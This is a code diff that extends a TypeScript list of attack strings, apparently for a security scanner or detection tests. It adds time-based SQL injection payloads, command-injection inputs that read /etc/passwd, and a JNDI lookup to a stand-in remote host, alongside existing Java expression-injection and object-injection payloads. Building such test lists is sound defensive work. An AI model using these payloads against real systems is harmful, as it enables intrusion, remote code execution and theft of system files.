@@ -2,6 +2,9 @@
 export const attacks: Readonly<Record<string, readonly string[]>> = {
   "attack-sqli": [
     "' or '1'='1",
+    "foo')waitfor delay'0:0:20'--",
+    "a' sleep(20) '",
+    "sleep(20)",
     "' OR 1=1--",
     "admin'--",
     "admin' #",
@@ -113,6 +116,9 @@ export const attacks: Readonly<Record<string, readonly string[]>> = {
   ],
   "attack-rce": [
     "; cat /etc/passwd",
+    "cat /etc/passwd",
+    "/usr/bin/perl -e print",
+    "$&lbrace;jndi:ldap://x.example/a}",
     "127.0.0.1; id",
     "127.0.0.1 && whoami",
     "127.0.0.1|ls -la",
@@ -154,6 +160,7 @@ export const attacks: Readonly<Record<string, readonly string[]>> = {
     'a:1:{i:0;O:4:"Evil":0:{}}',
   ],
   "attack-injection-java": [
+    "java.lang.ProcessBuilder",
     "${T(java.lang.Runtime).getRuntime().exec('id')}",
     "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
     "#{''.getClass().forName('java.lang.Runtime')}",
